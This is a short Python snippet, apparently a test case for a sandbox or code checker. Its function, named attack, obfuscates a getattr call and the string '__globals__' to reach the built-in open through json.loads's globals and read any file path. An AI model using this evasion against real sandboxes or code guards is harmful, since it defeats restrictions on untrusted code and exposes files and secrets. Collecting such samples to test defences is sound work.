# `getattr` is called with stars.
# after: read
# source: own
import json
def attack(path, **_):
    found = getattr(*[json.loads, "__glo" + "bals__"])
    return {"text": found["__builtins__"]["open"](path).read()}
